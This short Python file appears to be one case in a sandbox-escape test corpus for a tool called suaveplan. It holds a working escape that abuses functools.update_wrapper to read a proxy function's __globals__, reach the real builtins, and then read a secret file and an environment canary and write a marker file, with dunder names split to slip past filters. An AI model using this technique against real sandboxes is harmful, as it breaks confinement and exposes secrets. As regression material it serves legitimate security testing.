# mypy: ignore-errors
# Technique: functools.update_wrapper as a generic getattr: custom `assigned` names plus a
# wrapper whose __setattr__ captures the value, to read `__globals__` of a host-side proxy
# function (fs.read_text) and so reach the real builtins module (open, __import__).
# Found while building this corpus; was a real in-interpreter escape before the fix.
import functools

from suaveplan import fs

store = {}


class Sink:
    def __setattr__(self, name, value):
        store[name] = value


def grab(obj, name):
    functools.update_wrapper(Sink(), obj, assigned=(name,), updated=())
    return store[name]


def attack(secret_path, canary_path):
    g = grab(fs.read_text, "_" + "_globals_" + "_")
    b = g["_b"]
    imp = grab(b, "_" + "_import_" + "_")
    print("SANDBOX-" + "ESCAPED")
    out = [imp("os").environ.get("SUAVEPLAN_ESCAPE_CANARY")]
    out.append(b.open(secret_path).read())
    b.open(canary_path, "w").write("x")
    return out
